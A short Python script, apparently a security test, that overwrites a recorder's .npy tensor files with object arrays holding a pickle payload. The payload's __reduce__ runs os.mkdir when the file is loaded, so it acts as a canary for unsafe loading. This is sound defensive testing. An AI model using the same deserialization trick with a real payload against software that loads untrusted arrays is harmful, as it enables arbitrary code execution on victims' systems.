# ruff: noqa: ANN204, I001
# Arrays that run code when they are read: pickles under the recorder's own names.
import os

import numpy as np

from hostile import OUT, target, train, tried


class Payload:
    def __reduce__(self):
        return (os.mkdir, (target.open_folder + "/pickle",))


train()
tried()
for path in (OUT / "tensors").glob("*.npy"):
    array = np.empty(1, object)
    array[0] = Payload()
    np.save(path, array, allow_pickle=True)
